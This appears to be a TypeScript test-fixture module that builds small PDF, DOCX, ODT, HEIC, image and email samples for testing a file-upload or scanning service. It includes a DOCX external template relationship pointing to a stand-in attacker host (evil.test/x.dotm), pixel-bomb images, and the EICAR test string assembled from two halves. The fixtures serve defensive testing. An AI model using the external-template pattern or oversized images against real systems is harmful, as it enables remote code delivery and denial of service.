import { randomBytes } from 'node:crypto';
import { zipSync, strToU8 } from 'fflate';
import sharp from 'sharp';

/** A small whole PDF; `extra` stands as one more object in it. */
export function pdf(extra = ''): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    ...(extra ? [extra] : []),
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;

    return String(at).padStart(10, '0');
  });
  const start = text.length;
  const rows = offsets.map((at) => `${at} 00000 n \n`).join('');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;

  return Buffer.from(text, 'latin1');
}

const types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;

/** A small whole DOCX; `parts` are added to it or stand in the place of its own. */
export function docx(parts: Readonly<Record<string, string | Uint8Array>> = {}): Buffer {
  const all = {
    '[Content_Types].xml': types,
    '_rels/.rels':
      '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    'word/document.xml': '<w:document><w:body><w:p/></w:body></w:document>',
    ...parts,
  };
  const bytes = Object.entries(all).map(([name, part]) => [
    name,
    typeof part === 'string' ? strToU8(part) : part,
  ]);

  return Buffer.from(zipSync(Object.fromEntries(bytes)));
}

/** A small whole ODT. */
export function odt(parts: Readonly<Record<string, string>> = {}): Buffer {
  const mime = 'application/vnd.oasis.opendocument.text';
  const rest = Object.entries({ 'content.xml': '<office:document-content/>', ...parts });

  return Buffer.from(
    zipSync({
      mimetype: [strToU8(mime), { level: 0 }],
      ...Object.fromEntries(rest.map(([name, part]) => [name, strToU8(part)])),
    }),
  );
}

/** A relation of a DOCX to something outside of it. */
export function outside(kind: string): Record<string, string> {
  return {
    'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r1" TargetMode="External" Target="https://evil.test/x.dotm"
      Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}"/></Relationships>`,
  };
}

export function picture(format: 'jpeg' | 'png', side = 40): Promise<Buffer> {
  const channels = 3;
  const raw = { width: side, height: side, channels } as const;

  const drawn = sharp(randomBytes(side * side * channels), { raw });

  return drawn.toFormat(format).toBuffer();
}

/** One colour, so that many pixels are few bytes. */
export function hugePicture(width: number, height: number): Promise<Buffer> {
  const create = { width, height, channels: 3, background: '#888888' } as const;

  return sharp({ create, limitInputPixels: false }).png({ compressionLevel: 9 }).toBuffer();
}

/** The boxes of a HEIC that say what it is and how large; no picture is in it. */
export function heic(width: number, height: number): Buffer {
  const size = Buffer.alloc(20);
  size.writeUInt32BE(20);
  size.write('ispe', 4);
  size.writeUInt32BE(width, 12);
  size.writeUInt32BE(height, 16);
  const kind = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic')]);

  return Buffer.concat([kind, size, randomBytes(64).fill(7)]);
}

export const eml = Buffer.from(
  'From: AIMA <contactenos@aima.gov.pt>\r\nTo: ana@firma.test\r\nDate: Mon, 2 Nov 2026 10:00:00 +0000\r\nSubject: Pedido\r\n\r\nRecebido.\r\n',
);

/** The file by which scanners are tested, in two parts so that no scanner finds it here. */
export const eicar = Buffer.from(
  ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''),
);
